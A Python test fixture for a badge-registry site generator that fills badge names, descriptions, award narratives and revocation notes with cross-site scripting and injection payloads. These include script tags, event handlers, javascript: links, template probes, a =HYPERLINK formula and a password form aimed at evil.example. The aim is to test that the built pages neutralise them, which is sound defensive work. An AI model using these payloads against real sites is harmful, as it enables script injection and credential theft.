"""A registry full of attacks that are allowed text: whoever opens a pull request may write any of this.

`refused` attacks never get that far: `conferral check` stops them.  In each attack, code that would run calls itself
by name in `globalThis.ran`, so that a test can tell which one did.
"""

from __future__ import annotations

import json
from pathlib import Path

from conferral import addresses
from conferral.files import FolderFiles
from conferral.loading import load_registry
from conferral.standards.timestamps import format_timestamp
from tests import program
from tests.browser.browsing import Served
from tests.registry_builder import NOW, files, recipient, write_registry
from tests.unit.site.site_builder import add_files, register


def running(name: str) -> str:
    """A script that says that it ran."""
    return f"(globalThis.ran??=[]).push('{name}')"


MARKDOWN = {
    "script in Markdown": f"<script>{running('script in Markdown')}</script>",
    "handler in Markdown": f'<img src=x onerror="{running("handler in Markdown")}">',
    "drawing in Markdown": f'<svg onload="{running("drawing in Markdown")}"></svg>',
    "frame in Markdown": '<iframe src="https://evil.example/frame"></iframe>',
    "picture in Markdown": "![a chart](https://evil.example/track.png)",
    "link that runs": f"[one](javascript:{running('link that runs')}) [two](JaVaScRiPt:x) [three](&#106;avascript:x)",
    "link with data": "[four](data:text/html,<script>x</script>)",
    "link with a handler": f'[five](https://ok.example/ "a\\" onmouseover={running("link with a handler")} b")',
    "style in Markdown": '<style>*{display:none}</style><p style="position:fixed;inset:0">',
    "form in Markdown": '<form action="https://evil.example/"><input name="password"></form>',
    "id in Markdown": '<p id="check">taken</p><a name="content">taken</a>',
}
ALL_MARKDOWN = "\n\n".join(MARKDOWN.values()) + "\n"
"""What stands in a badge's criteria, its issuer's description, and the narrative of an award."""

NAMES = {
    "script in a name": f"</script><script>{running('script in a name')}</script>",
    "handler in a name": f'"><img src=x onerror={running("handler in a name")}>',
    "quotes in a name": f"' onfocus='{running('quotes in a name')}' autofocus='",
    "template in a name": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "comment in a name": "<!-- <title> ]]> --> <textarea> </title>",
    "entities in a name": "&lt;b&gt; &amp;amp; &#x3c;script&#x3e; \\u003cscript\\u003e",
    "formula in a name": '=HYPERLINK("https://evil.example/","Open")',
    "one long word": "Longest" * 17,
    "right to left": "مدرسة البحيرة 2026 (Lakeside)",
    "pictures": "🏆🎓 Winner 👩🏽‍🚀 1️⃣",
    "placeholder": "%(day)s %s %d {0} {name} %(percent",
}
"""Each is the name of a badge, and what stands in its other texts; one is also a holder's name."""

MARKED_UP = '<b onclick="x">"quoted" & \'marked\'</b>'
"""The registry's own title and description, and what notes say."""


def slug_of(attack: str) -> str:
    """The short name of the badge with an attack."""
    return attack.lower().replace(" ", "-")


def held(name: str) -> str:
    """The name of the holder of the badge with such a name: no text about an award may hold its holder's own."""
    return f"{name} H."[-120:]


def text(value: str) -> str:
    """As a YAML scalar."""
    return json.dumps(value, ensure_ascii=False)


def _badge(name: str, criteria: str) -> str:
    skill = f"name: {text(name)}, url: 'https://ok.example/x', framework: {text(name)}, code: {text(name)}"
    return (
        f"issuer: lakeside\nversion: 1\nname: {text(name)}\ndescription: {text(name)}\ncriteria: {text(criteria)}\n"
        f"field: {text(name)}\nlevel: foundation\nhours: 4\nskills: [{text(name)}]\nimage_caption: {text(name)}\n"
        f"alignments:\n- {{{skill}}}\n"
        f"translations:\n  ar: {{name: {text(name)}, description: {text(name)}, criteria: {text(criteria)}}}\n"
    )


def hostile_registry(root: Path) -> Path:
    """Write the registry, registered, with an award of each badge."""
    small = files()
    changes: dict[str, str | None] = {
        "credentials/registry.yml": (
            "base_url: https://credentials.example.org/registry\nlanguages: [en, ar]\ntimezone: Europe/Berlin\n"
            f"title: {text(MARKED_UP)}\ndescription: {text(MARKED_UP)}\npolicy:\n  identity: [did, name]\n"
        ),
        "credentials/issuers/lakeside/issuer.yml": (
            f"version: 1\nname: {text(NAMES['handler in a name'])}\nurl: https://lakeside.example.org\n"
            f"description: {text(ALL_MARKDOWN)}\n"
        ),
        "credentials/collections/attacks.yml": (
            f"title: {text(NAMES['script in a name'])}\ndescription: {text(MARKED_UP)}\n"
            f"badges: [{', '.join(slug_of(attack) for attack in NAMES)}]\n"
        ),
    }
    for number, (attack, name) in enumerate((NAMES | {"markdown": "Markdown"}).items()):
        slug = slug_of(attack)
        changes[f"credentials/badges/{slug}/badge.yml"] = _badge(name, ALL_MARKDOWN if attack == "markdown" else name)
        changes[f"credentials/badges/{slug}/badge.svg"] = small["credentials/badges/teaching/badge.svg"]
        changes[f"credentials/awards/{slug}/2026-06-01-batch-{number:02}k3.yml"] = (
            f"badge: {slug}\nawarded: 2026-06-01\nrecipients:\n- recipient: {recipient(100 + number)}\n"
            f"  narrative: {text(ALL_MARKDOWN if attack == 'markdown' else 'Took part.')}\n"
            f"  evidence: [{{id: 'https://ok.example/p', name: {text(name)}}}]\n"
        )
        changes[f"recipients/{recipient(100 + number)}.yml"] = (
            f"display_name: {text(held(name))}\nconsent:\n  on: 2026-05-01\n  to: [display_name]\n"
        )
    write_registry(root, changes)
    register(root)
    taken = {award.badge: award.id for award in load_registry(FolderFiles(root)).awards}
    add_files(
        root,
        {
            f"credentials/revocations/{taken[slug_of('formula in a name')]}.yml": (
                f"on: 2026-06-20\nreason: other\nnote: {text('=1+1')}\n"
            ),
            f"credentials/revocations/{taken[slug_of('comment in a name')]}.yml": (
                f"on: 2026-06-20\nreason: other\nnote: {text(MARKED_UP)}\n"
            ),
        },
    )
    return root


def hostile_site(root: Path, folder: Path) -> tuple[Served, dict[str, str]]:
    """A preview of the registry, and the paths of its pages by attack: of the badge and of its credential."""
    hostile_registry(root)
    program.ok("build", "--preview", "--as-of", format_timestamp(NOW), "--out", folder, cwd=root)
    paths = {"home": "", "badges": addresses.BADGES_PAGE, "revocations": addresses.REVOCATIONS_PAGE}
    paths |= {"issuer": addresses.issuer_page("lakeside"), "collection": addresses.collection_page("attacks")}
    paths |= {"statistics": addresses.STATISTICS_PAGE, "issuers": addresses.ISSUERS_PAGE}
    awards = {award.badge: award.id or "" for award in load_registry(FolderFiles(root)).awards}
    for attack in (*NAMES, "markdown"):
        paths[f"badge: {attack}"] = addresses.badge_page(slug_of(attack))
        paths[f"credential: {attack}"] = addresses.credential_page(awards[slug_of(attack)])
    return Served(folder=folder, prefix="/"), paths
